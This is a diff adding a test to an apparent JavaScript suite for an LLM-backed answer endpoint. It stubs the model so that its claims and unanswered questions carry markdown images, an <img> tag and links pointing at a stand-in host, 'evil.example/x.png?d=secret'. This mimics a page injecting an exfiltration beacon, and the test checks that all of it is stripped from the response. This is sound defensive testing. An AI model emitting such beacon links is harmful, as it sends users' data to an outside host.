@@ -52,6 +52,24 @@ describe('POST /answer with a language model', () => {
     expectSupported(body, web)
   })
 
+  it('shows no image and no link that a page made the model write, also in what it rejects', async () => {
+    const beacon = 'https://evil.example/x.png?d=secret'
+    model.replies.set('answer', ({ data }) => ({
+      claims: [
+        {
+          text: `Traffic has crossed the Ostrander Bridge since it opened in 1931 ![](${beacon}).`,
+          citations: [{ source: indexOf(data, '/bridge'), quote: 'The Ostrander Bridge opened to traffic in 1931.' }],
+        },
+        { text: `The bridge is made of cheese ![cheese](${beacon}) <img src="${beacon}">`, citations: [] },
+      ],
+      unanswered: [`On [which day](${beacon}) did it open?`],
+    }))
+    const { body } = await ask(question)
+    expect(body.answer).toContain('opened in 1931')
+    expect(body).toMatchObject({ gaps: [{ reason: 'no_citation' }, { text: 'On which day did it open?' }] })
+    expect(JSON.stringify(body)).not.toMatch(/!\[|<img|\]\(|secret/)
+  })
+
   it('gives the model the question, and the pages as data', async () => {
     await ask(question)
     expect(model.asked.map(({ prompt, values }) => [prompt, values])).toEqual([['answer', { question }]])
